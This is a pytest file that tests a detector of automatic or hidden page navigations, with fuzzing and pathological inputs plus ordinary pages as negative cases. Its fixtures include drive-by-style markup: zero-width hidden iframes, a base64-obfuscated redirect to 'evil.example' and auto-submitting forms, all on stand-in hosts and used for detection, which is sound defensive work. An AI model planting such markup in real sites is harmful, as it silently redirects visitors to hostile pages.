        param("<script>document.write('<iframe src=\"http://w.example/\" width=0",
              [(T.DOCUMENT_WRITE, "http://w.example/", True)], id="cut-in-document-write"),
    ],
)
def test_truncated(body: str, expected: list[tuple[Technique, str | None, bool]]) -> None:
    assert _summary(_find(body)) == expected


MIXED = (
    '<html><head><meta charset="utf-8"><base href="http://b.example/">'
    '<meta http-equiv="refresh" content="9;url=next.html"><script>'
    "var u = atob('aHR0cDovL2V2aWwuZXhhbXBsZS8='); `a${b}c`; /re[/]x/.test(s);\n"
    "(function(){ setTimeout(function(){ location.replace(u) }, 10) })();"
    "</script></head><body onload=\"document.forms[0].submit()\"><form action='/p'></form>"
    "<iframe src='http://h.example/' width=0></iframe><!-- c --></body></html>"
)


def test_every_cut_of_a_page_is_read_without_error() -> None:
    whole = MIXED.encode()
    for cut in range(len(whole) + 1):
        navigations = _find(whole[:cut])
        assert all(isinstance(n, Navigation) for n in navigations)
    assert {n.technique for n in _find(whole)} == {
        T.META_REFRESH, T.OBFUSCATED_SCRIPT, T.FORM_AUTOSUBMIT, T.HIDDEN_IFRAME,
    }


PLANTED_REFRESH = "<meta http-equiv=refresh content='0;url=http://planted.example/'>"


@pytest.mark.parametrize("seed", range(5))
def test_binary_bodies_as_html(seed: int) -> None:
    junk = random.Random(seed).randbytes(20_000)
    junk += b"<script>" + random.Random(seed).randbytes(5000) + b"<iframe " + junk[:3000]
    planted = Navigation(T.META_REFRESH, "http://planted.example/", PLANTED_REFRESH, True, 0.0)
    for content_type in ("text/html", "text/html; charset=shift_jis", "image/svg+xml", None):
        assert _find(junk, content_type) == []
        # "<html>" makes the body HTML even when no type is declared; the junk after it adds nothing.
        # An SVG document is XML: its <html> is HTML only in the XHTML namespace.
        html = '<html xmlns="http://www.w3.org/1999/xhtml">' if content_type == "image/svg+xml" else "<html>"
        assert _find(f"{html}{PLANTED_REFRESH}".encode() + junk, content_type) == [planted]


_JS_WORDS = (
    "location", "window", "top", ".", "href", "=", "(", ")", "{", "}", "[", "]", ",", ";", "=>", "function",
    "var", "go", "u", "'http://a.example/'", "`t${", "}`", "`", "/", "/re/g", "+", "?", ":", "setTimeout",
    "eval", "atob", "document", "write", "forms", "0", "submit", "click", "replace", "return", "new",
    "Function", "$", "addEventListener", "'load'", "onload", "innerHTML", "'<iframe src=x width=0>'",
    "createElement", "'iframe'", "src", "style", "hash", "\\u006c", "/*", "<!--", "\\", "\n", "//c\n",
)


FIRST = "<script>location.replace('http://first.example/')</script>"
LAST = "<script>location.replace('http://last.example/')</script>"
FIRST_FOUND = Navigation(T.SCRIPT, "http://first.example/", "location.replace('http://first.example/')", True)
LAST_FOUND = Navigation(T.SCRIPT, "http://last.example/", "location.replace('http://last.example/')", True)


def _assert_well_formed(navigations: list[Navigation]) -> None:
    """Each navigation as documented: an absolute target or none, some evidence, a delay that can happen."""
    for navigation in navigations:
        assert isinstance(navigation, Navigation) and navigation.technique in Technique
        assert navigation.target is None or urlsplit(navigation.target).scheme
        assert 0 < len(navigation.raw) <= 200
        assert navigation.delay is None or navigation.delay >= 0


@pytest.mark.parametrize("seed", range(4))
def test_random_token_soup_and_mutated_samples(seed: int) -> None:
    rnd = random.Random(seed)
    samples = [p.values[1] for p in POSITIVE if isinstance(p.values[1], str)]
    for _ in range(500):
        if rnd.random() < 0.5:
            soup = " ".join(rnd.choice(_JS_WORDS) for _ in range(rnd.randint(1, 80)))
            # The soup never holds "</script" or "<script": whatever it is, the scripts around it are
            # read on their own, so it can neither hide a navigation before it nor one after it.
            found = _find(f"{FIRST}<script>{soup}</script>{LAST}")
            assert found[0] == FIRST_FOUND and found[-1] == LAST_FOUND
            _assert_well_formed(found)
            found = _find(f"{FIRST}<script>{soup}")
        else:
            chars = list(rnd.choice(samples))
            for _ in range(rnd.randint(1, 6)):
                chars.insert(rnd.randint(0, len(chars)), rnd.choice("(){}[]'\"`/\\<>=;,.\n"))
            # A damaged page may swallow what follows it (an unclosed comment), never what comes before.
            found = _find(FIRST + "".join(chars))
        assert found[0] == FIRST_FOUND
        _assert_well_formed(found)


DEEP = "http://deep.example/"


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        param("<script>" + "(" * 50_000 + "location.href='http://deep.example/'", [(T.SCRIPT, DEEP, True)],
              id="deep-parens"),
        param("<script>" + "{" * 50_000, [], id="deep-braces"),
        param("<script>" + "`${" * 5000, [], id="deep-templates"),
        param("<script>" + "eval(" * 200 + "'location=1'" + ")" * 200,
              [(T.OBFUSCATED_SCRIPT, "http://page.example/dir/1", True)], id="nested-eval"),
        param("<script>x=" + "'a'+" * 20_000 + "'b'", [], id="long-concatenation"),
        param("<" * 100_000, [], id="many-lt"),
        param("<a " + "b='c' " * 20_000, [], id="many-attributes"),
        param("<script>var s = '" + "\\" * 10_001, [], id="backslashes"),
        param("<script>`location.href = next\\</script>", [], id="template-ending-in-backslash"),
        param("<script>x; Function ( if return</script>", [], id="call-cut-after-its-paren"),
        # Past the bound on looking values up, the target is unknown rather than wrong.
        param("<script>var a0 = 'http://x.example/';"
              + "".join(f"var a{i} = a{i - 1} + 'x';" for i in range(1, 3000))
              + "location.href = a2999;", [(T.OBFUSCATED_SCRIPT, None, True)], id="values-built-from-values"),
    ],
)
def test_pathological_input(body: str, expected: list[tuple[Technique, str | None, bool]]) -> None:
    assert _summary(_find(body)) == expected


def test_long_call_chain_is_read_to_its_end() -> None:
    body = ("<script>" + "".join(f"function f{i}(){{ f{i + 1}() }}" for i in range(500))
            + "function f500(){ location.href = 'http://deep.example/' } f0()")
    # The callers are followed back through all 500 functions to f0(), which runs by itself.
    assert [(n.technique, n.target, n.raw, n.automatic) for n in _find(body)] == [
        (T.SCRIPT, DEEP, "location.href = 'http://deep.example/'", True)
    ]


# ---------------------------------------------------------------------------
# Ordinary pages: no automatic navigation to another host
# ---------------------------------------------------------------------------

SPHINX_PAGE = """<!DOCTYPE html>
<html class="writer-html5" lang="en" data-content_root="../">
<head>
  <meta charset="utf-8" /><meta name="viewport" content="width=device-width, initial-scale=1.0" />
  <title>Installation &mdash; Example 4.2 documentation</title>
  <link rel="stylesheet" type="text/css" href="../_static/pygments.css?v=80d5e7a1" />
  <link rel="stylesheet" type="text/css" href="../_static/css/theme.css?v=19f00094" />
  <script src="../_static/jquery.js?v=5d32c60e"></script>
  <script src="../_static/_sphinx_javascript_frameworks_compat.js?v=2cd50e6c"></script>
  <script data-url_root="../" id="documentation_options" src="../_static/documentation_options.js"></script>
  <script src="../_static/doctools.js?v=888ff710"></script>
  <script src="../_static/sphinx_highlight.js?v=dc90522c"></script>
  <script>
    var DOCUMENTATION_OPTIONS = {
        URL_ROOT: document.getElementById("documentation_options").getAttribute('data-url_root'),
        VERSION: '4.2', LANGUAGE: 'en', COLLAPSE_INDEX: false, BUILDER: 'html',
        FILE_SUFFIX: '.html', LINK_SUFFIX: '.html', HAS_SOURCE: true, SOURCELINK_SUFFIX: '.txt',
        NAVIGATION_WITH_KEYS: false, SHOW_SEARCH_SUMMARY: true, ENABLE_SEARCH_SHORTCUTS: true,
    };
  </script>
  <script>
    document.documentElement.dataset.mode = localStorage.getItem("mode") || "";
    document.documentElement.dataset.theme = localStorage.getItem("theme") || "";
  </script>
  <script src="../_static/js/theme.js"></script>
  <script>
    jQuery(function () {
      SphinxRtdTheme.Navigation.enable(true);
      Search.loadIndex("../searchindex.js");
    });
    const themeButton = document.querySelector(".theme-switch-button");
    function cycleTheme() {
      const current = localStorage.getItem("theme") || "auto";
      const next = {auto: "light", light: "dark", dark: "auto"}[current];
      document.body.dataset.theme = next;
      localStorage.setItem("theme", next);
    }
    themeButton && themeButton.addEventListener("click", cycleTheme);
    document.querySelectorAll(".version-switch select").forEach(function (select) {
      select.onchange = function () { window.location.href = this.value; };
    });
  </script>
  <link rel="index" title="Index" href="../genindex.html" />
  <link rel="search" title="Search" href="../search.html" />
</head>
<body class="wy-body-for-nav">
  <div class="wy-grid-for-nav">
    <nav data-toggle="wy-nav-shift" class="wy-nav-side">
      <div role="search">
        <form id="rtd-search-form" class="wy-form" action="../search.html" method="get">
          <input type="text" name="q" placeholder="Search docs" aria-label="Search docs" />
          <input type="hidden" name="check_keywords" value="yes" />
          <input type="hidden" name="area" value="default" />
        </form>
      </div>
      <ul class="current">
        <li class="toctree-l1 current"><a class="current reference internal" href="#">Installation</a></li>
        <li class="toctree-l1"><a class="reference internal" href="usage.html">Usage</a></li>
        <li class="toctree-l1"><a class="reference external" href="https://github.com/example/example">Source</a></li>
      </ul>
    </nav>
    <section id="installation"><h1>Installation<a class="headerlink" href="#installation" title="Link to this
      heading">¶</a></h1>
      <div class="highlight-console notranslate"><div class="highlight"><pre><span></span>
<span class="gp">$ </span>pip install example
</pre></div></div>
      <p>See <a class="reference external" href="https://pypi.org/project/example/">PyPI</a>.</p>
      <div class="highlight-javascript notranslate"><div class="highlight"><pre>
window.location.href = &quot;https://example.org/&quot;;
</pre></div></div>
    </section>
  </div>
  <script>
    var _paq = window._paq = window._paq || [];
    _paq.push(['trackPageView']);
    (function() {
      var u = "https://stats.example.org/";
      _paq.push(['setTrackerUrl', u + 'matomo.php']);
      var d = document, g = d.createElement('script'), s = d.getElementsByTagName('script')[0];
      g.async = true; g.src = u + 'matomo.js'; s.parentNode.insertBefore(g, s);
    })();
  </script>
</body>
</html>
"""

GOOGLE_TAGS = """<html><head>
<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':
new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],
j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=
'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);
})(window,document,'script','dataLayer','GTM-XXXX');</script>
<script type="text/javascript">
var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");
document.write(unescape("%3Cscript src='" + gaJsHost +
  "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));
</script></head><body>
<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-XXXX"
height="0" width="0" style="display:none;visibility:hidden"></iframe></noscript>
<p>News of the day</p></body></html>"""

WEB_APP = """<!doctype html><html><head><title>Tasks</title>
<script>
  if (top !== self) { top.location = self.location; }
  if (location.protocol !== "https:") {
    location.replace("https:" + location.href.substring(location.protocol.length));
  }
  if (!document.cookie.match(/session=/)) {
    window.location.href = "/login?next=" + encodeURIComponent(location.pathname + location.search);
  }
  window.__INITIAL_STATE__ = {"user": null, "redirect": "location.href = \\u0022https://x.example/\\u0022",
    "links": ["https:\\/\\/cdn.example\\/a.js"], "note": "it\\u0027s"};
  document.addEventListener("DOMContentLoaded", function () {
    document.querySelectorAll("a.external").forEach(function (a) {
      a.addEventListener("click", function (event) {
        event.preventDefault();
        window.open(a.href, "_blank", "noopener");
      });
    });
    history.pushState({}, "", "/tasks?view=all");
    document.getElementById("refresh").onclick = function () { location.reload(); };
    $(".row").click(function () { window.location = $(this).data("href"); });
  });
  location.hash = "#top";
  location.search = "?tab=1";
</script></head><body><a class="external" href="https://docs.example.org/">Docs</a>
<button id="refresh" onclick="location.reload()">Reload</button></body></html>"""

NEGATIVE = [
    param({}, SPHINX_PAGE, id="sphinx-documentation-page"),
    param({}, GOOGLE_TAGS, id="tag-manager-and-old-analytics"),
    param({}, WEB_APP, id="web-app-same-host-navigations"),
    param({}, """<html><body><script>function go(u){ location.href = u }
        function leave() { window.location = "https://partner.example/"; }</script>
        <a href="#" onclick="go('https://elsewhere.example/'); return false">Go</a>
        <button onclick="leave()">Partner</button></body></html>""", id="onclick-and-uncalled-functions"),
    param({}, "<script>location.reload(); location.hash = '#x'; window.location.search = '?a=1';"
              " history.replaceState(null, '', '/y');</script>", id="reload-hash-search-history"),
    param({}, "<ul>" + "".join(f'<li><a href="https://news{i}.example/a/{i}">Story {i}</a></li>'
                               for i in range(50)) + "</ul><script>var a = document.createElement('a');"
              " a.href = 'https://other.example/'; link.href = 'https://other2.example/';"
              " document.body.appendChild(a);</script>", id="links-and-href-assignments"),
    param({"status": 302}, "<p>Moved.</p>", id="30x-without-location"),
    param({}, '<meta http-equiv="refresh" content="30">', id="same-page-meta-refresh"),
    param({"headers": (("Refresh", "60"),)}, "<p>live</p>", id="same-page-refresh-header"),
    param({}, "<script>var data = {location: 'https://x.example/', href: 'https://y.example/'};"
              " place.location = 'https://z.example/'; obj.location.href = 'https://w.example/';"
              " if (location.href == 'https://v.example/') {}</script>", id="location-lookalikes"),
]


@pytest.mark.parametrize(("kwargs", "body"), NEGATIVE)
def test_ordinary_pages_do_not_leave_their_host(kwargs: dict[str, Any], body: str) -> None:
    navigations = _find(body, **kwargs)
    own_host = urlsplit(BASE).hostname
    leaving = [n for n in navigations
               if n.automatic and (n.target is None or urlsplit(n.target).hostname != own_host)]
    assert leaving == []


def test_same_page_refresh_targets_the_page() -> None:
    assert _summary(_find('<meta http-equiv="refresh" content="30">')) == [(T.META_REFRESH, BASE, True)]


def test_web_app_navigations_stay_on_the_host() -> None:
    automatic = [n.target for n in _find(WEB_APP) if n.automatic]
    assert automatic == [BASE, "https://page.example/dir/index.html",
                         "http://page.example/login?next=%2Fdir%2Findex.html"]
